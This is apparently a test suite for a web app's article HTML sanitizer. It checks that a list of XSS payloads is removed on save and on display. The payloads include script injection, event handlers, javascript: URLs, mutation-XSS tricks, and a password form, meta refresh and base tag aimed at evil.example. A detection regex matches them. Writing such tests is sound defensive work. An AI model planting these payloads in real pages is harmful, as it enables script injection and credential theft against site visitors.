import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
import { articleDetails } from '../../../src/db/schema/index.ts';
import { sanitizeArticleHtml } from '../../../src/domain/articles/sanitize.ts';
import { href, routes } from '../../../src/routes.ts';
import { slow } from '../../support/slow.ts';
import { openWorld, type World } from '../../support/world.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">text</p>',
  '<img src="/assets/a.webp" alt="" onerror="alert(1)">',
  '<img src="https://tracker.example/pixel.gif" alt="">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="">',
  '<a href="javascript:alert(1)">text</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">text</a>',
  '<a href="//evil.example/">text</a>',
  '<a href="data:text/html,<script>alert(1)</script>">text</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<p style="position:fixed;inset:0">text</p>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<p class="fixed inset-0 z-50">text</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p id="main">text</p>',
];

const dangerous =
  /<(script|iframe|object|embed|svg|math|style|form|input|meta|base|noscript)\b|\son\w+\s*=|javascript:|data:|evil\.example|tracker\.example|style=|inset-0|id="main"/i;

test('every entry of the attack list has something that is removed', () => {
  for (const attack of attacks) expect(attack.replace('&colon;', ':')).toMatch(dangerous);
});

test.each(attacks)('%s is removed', (attack) => {
  expect(sanitizeArticleHtml(attack)).not.toMatch(dangerous);
});

test('allowed markup is kept unchanged', () => {
  const text =
    '<h2>Title</h2><p>One <strong>two</strong> <a href="https://example.com/">three</a></p><ul><li>four</li></ul><p class="ql-align-center">five</p><img src="/assets/a.webp" alt="six" />';
  expect(sanitizeArticleHtml(text)).toBe(text);
});

test('tables are kept, without cells that claim thousands of columns', () => {
  const table =
    '<table><caption>Output</caption><thead><tr><th scope="col" colspan="2">Year</th></tr></thead><tbody><tr><td rowspan="3">2025</td><td>1</td></tr></tbody></table>';
  expect(sanitizeArticleHtml(table)).toBe(table);
  expect(sanitizeArticleHtml('<table><tr><td colspan="1000" rowspan="0">1</td></tr></table>')).toBe(
    '<table><tr><td>1</td></tr></table>',
  );
});

test('links that open a new tab have rel="noopener"', () => {
  expect(sanitizeArticleHtml('<a href="https://example.com" target="_blank">text</a>')).toContain('noopener');
});

test('content without visible parts counts as empty', () => {
  for (const empty of ['', '<p></p>', '<p><br></p>', '<p>&nbsp;</p>', '<script>1</script>']) {
    expect(sanitizeArticleHtml(empty)).toBe('');
  }
});

describe('an article', () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld();
  }, slow);
  beforeEach(() => world.reset());
  afterAll(() => world.close());

  test('is sanitised when it is saved', async () => {
    await world.publish({ content: `<p>Kept</p>${attacks.join('')}` });
    for (const { content } of await world.db.select().from(articleDetails)) {
      expect(content).toContain('Kept');
      expect(content).not.toMatch(dangerous);
    }
  });

  test('is sanitised again when it is displayed, in case it was stored by other means', async () => {
    const id = await world.publish();
    await world.db.update(articleDetails).set({ content: `<p>Kept</p>${attacks.join('')}` });
    const page = await world.html(href(routes.articles.show, 'en', { id }));
    const shown = page.querySelectorAll('main p').find((paragraph) => paragraph.text === 'Kept')?.parentNode;
    expect(shown?.innerHTML).toContain('Kept');
    expect(shown?.innerHTML).not.toMatch(dangerous);
  });
});
